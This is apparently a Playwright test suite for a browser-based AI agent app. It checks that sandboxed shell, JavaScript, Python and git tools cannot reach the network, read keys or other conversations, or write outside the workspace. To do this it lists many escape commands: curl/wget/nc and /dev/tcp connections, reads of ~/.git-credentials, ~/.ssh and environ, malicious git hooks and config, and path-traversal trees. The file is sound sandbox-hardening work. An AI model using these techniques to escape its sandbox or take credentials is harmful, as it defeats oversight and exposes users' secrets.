/**
 * Attempts to escape from the shell, scripts and git: to the network, other conversations, keys, or the page.
 */
import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { deflateSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { startChatServer } from '#tests/fixtures/model-servers/chat-server.ts';
import { listen } from '#tests/fixtures/web/listen.ts';
import { concat, encode, type Bytes } from '#workers/runtimes/git/bytes.ts';
import { objectId, type GitObject } from '#workers/runtimes/git/objects/git-object.ts';
import { formatTree } from '#workers/runtimes/git/objects/trees.ts';
import { expect, test as base } from '../app.ts';
import { addServer } from '../chat.ts';

/** A server on an allowed host. The attacks must not reach it; each connection is counted. */
type Trap = { url: string; host: string; port: number; /** Connections so far. */ heard(): number };

const test = base.extend<{ trap: Trap }>({
  trap: async ({ app }, use) => {
    let connections = 0;
    const server = createServer((_, response) => {
      response.setHeader('access-control-allow-origin', '*').end('heard');
    });
    server.on('connection', () => connections++);
    const { port, close } = await listen(server);
    const host = `127.0.0.1:${port}`;
    await app.evaluate((host) => window.oneclaw.permissions.allowHost(host), host);
    await use({ url: `http://${host}`, host, port, heard: () => connections });
    await close();
  },
});

test.describe.configure({ timeout: 120_000 });

function call(page: Page, tool: string, values: Record<string, unknown>, agent?: string) {
  return page.evaluate(
    ([name, json, as]) => window.oneclaw.tools.call(name, JSON.parse(json) as never, as ? { agent: as } : {}),
    [tool, JSON.stringify(values), agent] as const,
  );
}

const shell = (page: Page, command: string, agent?: string) =>
  call(page, 'execute_shell_command', { command }, agent);

/** Saves an agent that is denied the network, and returns its id. */
const saveOffline = (page: Page) =>
  page.evaluate(() =>
    window.oneclaw.agents.save({ name: 'Offline', systemPrompt: '', tools: ['*'], deny: ['network'] }),
  );

/** Names in OPFS outside of the workspace, except the folders that the app itself writes for each call. */
const outside = (page: Page) =>
  page.evaluate(async () => {
    const walk = async (folder: FileSystemDirectoryHandle, path: string): Promise<string[]> => {
      const found: string[] = [];
      for await (const entry of folder.values()) {
        const name = `${path}/${entry.name}`;
        if (name === '/workspace') continue;
        found.push(name, ...(entry.kind === 'directory' ? await walk(entry, name) : []));
      }
      return found;
    };
    const all = await walk(await navigator.storage.getDirectory(), '');
    return all
      .filter((name) => !/^\/(undo|journal|sessions)\//.test(name) || name.includes('escaped'))
      .sort();
  });

test('the shell has no network where the agent has none @long', async ({ app, trap }) => {
  const { url, port } = trap;
  const agent = await saveOffline(app);
  const ways = [
    `curl -s ${url}/curl`,
    `curl -x ${url} http://example.org/`,
    `wget -q -O - ${url}/wget`,
    `http_proxy=${url} curl -s http://127.0.0.1:9/`,
    `exec 3<>/dev/tcp/127.0.0.1/${port} && echo GET / >&3 && cat <&3`,
    `cat < /dev/tcp/127.0.0.1/${port}`,
    `echo x > /dev/udp/127.0.0.1/${port}`,
    `git clone ${url}/a.git`,
    `git ls-remote ${url}/a.git`,
    `git init -q r && git -C r remote add origin ${url}/a.git && git -C r fetch`,
    `git -C r push ${url}/a.git HEAD`,
    `node -e 'console.log(await (await fetch("${url}/node")).text())'`,
    `node -e 'await import("${url}/module.js")'`,
    `python3 -c 'import urllib.request as u; print(u.urlopen("${url}/python").read())'`,
    `python3 -c 'import socket; socket.create_connection(("127.0.0.1", ${port}))'`,
    `nc 127.0.0.1 ${port} < /dev/null`,
    `telnet 127.0.0.1 ${port}`,
    `openssl s_client -connect 127.0.0.1:${port}`,
    `ssh -p ${port} 127.0.0.1 true`,
    `xdg-open ${url}/open || open ${url}/open`,
    `busybox wget ${url}/busybox`,
    `sh -c 'curl -s ${url}/sh'`,
    `env -i curl -s ${url}/env`,
    `command curl -s ${url}/command; \\curl -s ${url}/backslash; c=curl; $c -s ${url}/variable`,
    `find . -maxdepth 0 -exec curl -s ${url}/exec ';'`,
    `echo ${url}/xargs | xargs curl -s`,
    `awk 'BEGIN { "curl -s ${url}/awk" | getline x; print x; system("curl -s ${url}/system") }'`,
    `awk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/${port}"; print "x" |& s; s |& getline x; print x }'`,
    `sed -n '1e curl -s ${url}/sed' /dev/null`,
    `trap 'curl -s ${url}/trap' EXIT; exit 0`,
    `alias ls='curl -s ${url}/alias'; ls; PROMPT_COMMAND='curl -s ${url}/prompt'; true`,
  ];
  for (const way of ways) {
    const result = await call(app, 'execute_shell_command', { command: way, timeout: 60 }, agent);
    expect.soft(JSON.stringify(result), way).not.toContain('heard');
    expect.soft(trap.heard(), way).toBe(0);
  }
  // Control: with the capability, the same request reaches the trap.
  expect(await shell(app, `curl -s ${url}/allowed`)).toMatchObject({
    result: expect.stringContaining('heard'),
  });
  expect(trap.heard()).toBeGreaterThan(0);
});

test('JavaScript and Python have no network where the agent has none, and no page @long', async ({
  app,
  trap,
}) => {
  const { url } = trap;
  const agent = await saveOffline(app);
  const code = `const reached = [];
const attempt = async (name, work) => {
  try { const value = await work(); if (value !== undefined && value !== 'undefined') reached.push(name + ': ' + value); } catch {}
};
for (const name of ['self', 'window', 'document', 'postMessage', 'onmessage', 'importScripts', 'Worker', 'MessageChannel',
  'BroadcastChannel', 'indexedDB', 'caches', 'navigator', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebAssembly',
  'SharedArrayBuffer', 'process', 'Deno', 'Bun', 'std', 'os', 'bjson', 'Module', 'host', 'oneclaw'])
  await attempt(name, () => { const kind = typeof globalThis[name]; return kind === 'undefined' || (name === 'SharedArrayBuffer') ? undefined : kind; });
const functions = [fetch, console.log, setTimeout, files.read, files.list, async () => 0, function* () {}, class {}];
for (const each of functions)
  for (const source of ['return typeof postMessage', 'return typeof self', 'return typeof document', 'return typeof importScripts'])
    await attempt(source, () => { const value = each.constructor(source)(); return value?.next ? value.next().value : value; });
await attempt('require', () => require('fs'));
await attempt('eval', () => eval('typeof postMessage'));
await attempt('indirect eval', () => (0, eval)('typeof navigator'));
await attempt('fetch', async () => (await fetch('${url}/fetch')).text());
await attempt('fetch of a request', async () => (await fetch({ url: '${url}/request', toString: () => '${url}/request' })).text());
for (const name of ['${url}/module.js', 'std', 'os', 'qjs:std', 'node:fs', 'data:text/javascript,export default 1', '../../journal/x.js', 'file:///etc/passwd'])
  await attempt('import ' + name, async () => Object.keys(await import(name)).join());
for (const path of ['..', '../journal', '/', '/journal', '/workspace/../undo', '/sessions', '/etc/passwd', '.results/../../blobs'])
  for (const method of ['read', 'list', 'stat', 'remove', 'write', 'makeDirectory'])
    await attempt(method + ' ' + path, async () => JSON.stringify(await files[method](path, 'escaped')) ?? 'done');
console.log(JSON.stringify(reached));`;
  const before = await outside(app);
  expect(await call(app, 'run_javascript', { code }, agent)).toMatchObject({
    status: 'success',
    result: '[]',
  });
  const script = await readFile(new URL('../../fixtures/python/escape.py', import.meta.url), 'utf8');
  const python = await call(
    app,
    'run_python',
    { code: `address = ${JSON.stringify(url)}\n${script}`, timeout: 100 },
    agent,
  );
  const { found, reached } = JSON.parse('result' in python ? String(python.result) : '{}') as {
    found: Record<string, string>;
    reached: string[];
  };
  // Proof that all attempts were made.
  expect(Object.keys(found).length).toBeGreaterThan(30);
  expect(reached).toEqual([]);
  expect(trap.heard()).toBe(0);
  expect(await outside(app)).toEqual(before);
});

test('a search of all files finds nothing of another conversation, no key and nothing of the app @long', async ({
  app,
}) => {
  const server = await startChatServer();
  const provider = await addServer(app, server.url, { apiKey: 'canary-key' });
  await app.evaluate(() =>
    window.oneclaw.git.saveToken({ host: 'git.example', username: 'canary-user', token: 'canary-token' }),
  );
  server.enqueue({
    calls: [
      {
        name: 'execute_shell_command',
        arguments: {
          command:
            'export CANARY=canary-variable; canary() { echo canary-function; }; echo canary-file > /tmp/canary; mkdir -p private; cd private; echo "$CANARY"; canary; cat /tmp/canary',
        },
      },
      { name: 'run_python', arguments: { code: 'canary = "canary-python"' } },
    ],
  });
  server.enqueue({ text: 'Done.' });
  const other = await app.evaluate(
    (provider) => window.oneclaw.chat.send('Remember canary-message', { provider }),
    provider,
  );
  expect(other.calls.map(({ result }) => result.status)).toEqual(['success', 'success']);
  // Control: in its own conversation the same search finds them.
  expect(JSON.stringify(other.calls)).toContain('canary-variable\\ncanary-function\\ncanary-file\\n');

  const everywhere = [
    'env; set; declare -p; declare -f; alias; history; pwd; echo ~; type canary',
    'cat /tmp/canary; ls -aR / 2>/dev/null',
    'find / -type f 2>/dev/null | grep -v "^/bin\\|^/usr/bin" | while read -r f; do echo "$f"; cat "$f" 2>/dev/null; done',
    'cat /proc/self/environ /proc/self/cmdline /proc/1/environ',
    'for d in /sessions /workspace/../sessions ../sessions /journal /undo /blobs /models; do ls -aR $d; done',
    'ln -s / all && ls all/ && ln -s ../../sessions up && ls up/; cat all/sessions/*/*',
    'git config --global --list; cat ~/.gitconfig ~/.git-credentials ~/.netrc ~/.ssh/*',
    'printf "protocol=https\\nhost=git.example\\n\\n" | git credential fill',
  ];
  for (const command of everywhere) {
    const said = JSON.stringify(await shell(app, command));
    expect
      .soft(said.replaceAll('type canary', '').replaceAll('/tmp/canary', ''), command)
      .not.toMatch(/canary-|canary is/);
  }
  const python = await call(app, 'run_python', {
    code: `import os, gc
texts = [str(v) for v in os.environ.items()] + [str(o) for o in gc.get_objects() if isinstance(o, (str, dict, list))]
for folder, _, names in os.walk('/'):
    for name in names:
        if folder.startswith(('/proc', '/dev', '/sys')): continue
        try: texts.append(open(os.path.join(folder, name), errors='replace').read(1_000_000))
        except OSError: pass
needle = 'can' + 'ary-'
print('canary' in globals(), [t[max(0, t.find(needle) - 40):][:80] for t in texts if needle in t])`,
    timeout: 100,
  });
  expect(python).toMatchObject({ status: 'success', result: 'False []' });
  expect(
    await call(app, 'run_javascript', { code: 'Object.keys(globalThis).join() + typeof canary' }),
  ).toMatchObject({ status: 'success', result: expect.not.stringContaining('canary-') });
  await server.close();
});

type Evil = { branch: string; names: readonly string[]; mode?: number; content?: string };

const folderMode = 0o040000;
const fileMode = 0o100644;
const linkMode = 0o120000;

/**
 * Builds the loose objects of a branch with one file at the path `names`. Maps paths below `.git` to bytes.
 */
function plant({
  branch,
  names,
  mode = fileMode,
  content = 'escaped\n',
}: Evil): [path: string, base64: string][] {
  const made: [string, string][] = [];
  const put = (type: GitObject['type'], bytes: Bytes) => {
    const oid = objectId(type, bytes);
    const whole = deflateSync(concat([encode(`${type} ${bytes.length}\0`), bytes]));
    made.push([`objects/${oid.slice(0, 2)}/${oid.slice(2)}`, whole.toString('base64')]);
    return oid;
  };
  let oid = put('blob', encode(content));
  let current = mode;
  for (const name of names.toReversed()) {
    oid = put('tree', formatTree([{ name, mode: current, oid }]));
    current = folderMode;
  }
  const who = 'Eve <eve@example.com> 1700000000 +0000';
  const commit = put('commit', encode(`tree ${oid}\nauthor ${who}\ncommitter ${who}\n\nevil\n`));
  made.push([`refs/heads/${branch}`, Buffer.from(`${commit}\n`).toString('base64')]);
  return made;
}

test('a hostile repository runs no code, sends no request, and writes only to its own folder', async ({
  app,
  trap,
}) => {
  const { url, port } = trap;
  // Allowed beforehand, so that the shell does not ask. The test is whether a request reaches the trap
  // instead.
  await app.evaluate(() => window.oneclaw.permissions.allowHost('127.0.0.1:1'));
  await shell(
    app,
    'git init -q repo && cd repo && git config user.name Ada && git config user.email a@b.c && echo one > a.txt && git add . && git commit -qm one && git branch side && echo two > a.txt && git commit -qam two',
  );
  const run = `curl -s ${url}/ran`;
  const hooks = [
    'pre-commit',
    'prepare-commit-msg',
    'commit-msg',
    'post-commit',
    'post-checkout',
    'post-merge',
  ];
  hooks.push(
    'pre-push',
    'pre-rebase',
    'post-rewrite',
    'reference-transaction',
    'post-index-change',
    'fsmonitor-watchman',
  );
  for (const folder of ['.git/hooks', 'hooks'])
    for (const name of hooks)
      await app.evaluate(([path, text]) => window.oneclaw.files.write(path, text), [
        `repo/${folder}/${name}`,
        `#!/bin/sh\n${run}/${name}\nexit 1\n`,
      ] as const);
  const config = `
[core]
	fsmonitor = ${run}/fsmonitor
	hooksPath = /workspace/repo/hooks
	editor = ${run}/editor
	pager = ${run}/pager
	sshCommand = ${run}/ssh
	gitProxy = ${run}/proxy
	askPass = ${run}/askpass
	attributesFile = /workspace/../journal
	worktree = /workspace/../journal
	excludesFile = ../../../journal
[alias]
	st = !${run}/alias
[filter "x"]
	clean = ${run}/clean
	smudge = ${run}/smudge
	process = ${run}/process
	required = true
[diff]
	external = ${run}/diff
[diff "x"]
	textconv = ${run}/textconv
	command = ${run}/diff-command
[merge "x"]
	driver = ${run}/merge
[credential]
	helper = !${run}/credential
[http]
	proxy = ${url}
	corsProxy = ${url}
[gpg]
	program = ${run}/gpg
[commit]
	gpgSign = true
[url "${url}/"]
	insteadOf = http://127.0.0.1:1/
	pushInsteadOf = http://127.0.0.1:1/
[include]
	path = /workspace/../journal/x
[remote "origin"]
	url = http://127.0.0.1:1/a.git
	fetch = +refs/heads/*:refs/remotes/origin/*
	proxy = ${url}
	vcs = ext
	uploadpack = ${run}/uploadpack
	receivepack = ${run}/receivepack
[remote "ext"]
	url = ext::sh -c "${run}/ext"
	fetch = +refs/heads/*:refs/remotes/ext/*
[remote "file"]
	url = file:///workspace/repo
	fetch = +refs/heads/*:refs/remotes/file/*
[remote "ssh"]
	url = ssh://127.0.0.1:${port}/a.git
	fetch = +refs/heads/*:refs/remotes/ssh/*
[remote "git"]
	url = git://127.0.0.1:${port}/a.git
	fetch = +refs/heads/*:refs/remotes/git/*
[submodule "sub"]
	url = ${url}/sub.git
	active = true
	update = !${run}/submodule
`;
  await app.evaluate(
    async ([config, url]) => {
      const { files } = window.oneclaw;
      await files.write('repo/.git/config', (await files.read('repo/.git/config')) + config);
      await files.write('repo/.gitattributes', '* filter=x diff=x merge=x\n');
      await files.write('repo/.gitmodules', `[submodule "sub"]\n\tpath = sub\n\turl = ${url}/sub.git\n`);
    },
    [config, url] as const,
  );
  const before = await outside(app);
  const commands = [
    'git status; git add -A; git commit -m three; git diff HEAD~1; git log -p --ext-diff; git show --textconv',
    'git checkout -q side; echo side > a.txt; git commit -am side; git merge main; git merge --abort; git checkout -q -f main',
    'git stash -u; git stash pop; git st; git cherry-pick side; git reset --hard; git tag -s v1 -m x; git rm -rf --cached sub',
    'git fetch origin; git pull origin main; git push origin main; git fetch --all',
    'git fetch ext; git fetch file; git fetch ssh; git fetch git; git push ext main; git push file main',
    `git clone 'ext::sh -c "${run}/clone"' x1; git clone file:///workspace/repo x2; git clone /workspace/repo x3; git clone git://127.0.0.1:${port}/a x4`,
    `git clone --upload-pack='${run}/up' http://127.0.0.1:1/a x5; git clone -c core.fsmonitor='${run}' http://127.0.0.1:1/a x6; git clone --config http.proxy=${url} http://127.0.0.1:1/a x7`,
    `git -c http.proxy=${url} ls-remote http://127.0.0.1:1/a; http_proxy=${url} git fetch origin; GIT_SSH_COMMAND='${run}' git fetch ssh; GIT_PROXY_COMMAND='${run}' git fetch git`,
    'git submodule update --init --recursive; git submodule foreach ls; git clone --recurse-submodules http://127.0.0.1:1/a x8',
    `git -c core.fsmonitor='${run}' status; git -c alias.x='!${run}' x; git -c core.pager='${run}' log; git --exec-path=/workspace/repo/hooks status; git -p log`,
  ];
  for (const command of commands) {
    await shell(app, `cd /workspace/repo; ${command}`);
    expect.soft(trap.heard(), command).toBe(0);
  }
  for (const [name, values] of [
    ['status', {}],
    ['add', {}],
    ['commit', { message: 'by tool', all: true }],
    ['checkout', { target: 'side' }],
    ['merge', { branch: 'main' }],
    ['fetch', { remote: 'ext' }],
    ['pull', { remote: 'origin', branch: 'main' }],
    ['push', { remote: 'origin' }],
    ['clone', { url: `ext::sh -c "${run}"` }],
  ] as const) {
    await call(app, `git_${name}`, name === 'clone' ? values : { path: 'repo', ...values });
    expect.soft(trap.heard(), `git_${name}`).toBe(0);
  }
  expect(await outside(app)).toEqual(before);
  // Control: if a hook had run, the trap would have counted a connection.
  await shell(app, 'bash /workspace/repo/hooks/pre-push');
  expect(trap.heard()).toBeGreaterThan(0);
});

test('trees, links and names of git cannot lead out of the folder of the repository @long', async ({
  app,
}) => {
  const evil: Evil[] = [
    { branch: 'up', names: ['..', 'escaped.txt'] },
    { branch: 'far-up', names: ['a', '..', '..', '..', 'journal', 'escaped'] },
    { branch: 'absolute', names: ['/journal', 'escaped'] },
    { branch: 'slash', names: ['a/../../escaped.txt'] },
    { branch: 'dot-git', names: ['.git', 'config'] },
    { branch: 'upper', names: ['.GIT', 'config'] },
    { branch: 'short', names: ['git~1', 'config'] },
    { branch: 'deep', names: ['sub', '.Git', 'hooks', 'pre-commit'] },
    { branch: 'stream', names: ['.git::$INDEX_ALLOCATION', 'config'] },
  ];
  const link: Evil = { branch: 'link', names: ['link'], mode: linkMode, content: '../../journal' };
  await shell(
    app,
    'git init -q repo && cd repo && git config user.name Ada && git config user.email a@b.c && echo one > a.txt && git add . && git commit -qm one',
  );
  const written = [...evil, link]
    .flatMap(plant)
    .map(([path, bytes]) => `mkdir -p "$(dirname ${path})"; echo ${bytes} | base64 -d > ${path}`);
  await shell(app, `cd /workspace/repo/.git\n${written.join('\n')}`);
  const all = () =>
    app.evaluate(async () => {
      const listed = await window.oneclaw.tools.call('execute_shell_command', {
        command: 'cd /workspace && find . -path ./repo/.git/objects -prune -o -type f -exec md5sum {} +',
      });
      return 'result' in listed ? String(listed.result) : '';
    });
  const before = [await all(), await outside(app)];
  expect(before[0]).toContain('./repo/.git/config');
  for (const { branch } of evil)
    for (const command of [
      `checkout ${branch}`,
      `checkout -f ${branch}`,
      `checkout ${branch} -- .`,
      `reset --hard ${branch}`,
    ]) {
      const result = await shell(app, `git -C /workspace/repo ${command}`);
      expect.soft(result, command).toMatchObject({
        metadata: { exit_code: expect.stringMatching(/^[1-9]/) },
      });
      expect.soft(await all(), command).toBe(before[0]);
    }
  for (const command of [
    'git init /journal/x',
    'git init ../../x',
    'git -C /journal status',
    'git -C ../../.. status',
    'git add ../../journal',
    'git diff --no-index /etc/passwd a.txt',
    'git show HEAD:../../../journal',
    'git mv a.txt ../../escaped.txt',
    'git mv a.txt .GIT/config',
    'git checkout HEAD -- ../../../journal',
    'git config --file /journal/x a.b c',
    'git branch ../../../../escaped',
    'git update-ref ../../escaped HEAD',
    'git clone http://127.0.0.1:1/a ../../../escaped',
    'git --git-dir=/journal status',
    'git --work-tree=/journal status',
    'mkdir -p /workspace/linked; echo "gitdir: ../../../journal" > /workspace/linked/.git; (cd /workspace/linked; git status)',
  ]) {
    const result = await shell(app, `cd /workspace/repo; ${command}`);
    expect.soft(result, command).toMatchObject({ metadata: { exit_code: expect.stringMatching(/^[1-9]/) } });
    await shell(app, 'rm -rf /workspace/linked');
    expect.soft(await all(), command).toBe(before[0]);
  }
  expect(await outside(app)).toEqual(before[1]);
  expect(
    await shell(app, 'cd /workspace/repo; git checkout -q link; cat link; ls link/; cd link'),
  ).toMatchObject({
    result: expect.stringMatching(/^\.\.\/\.\.\/journal[^]*\[exit code [1-9]/),
  });
});
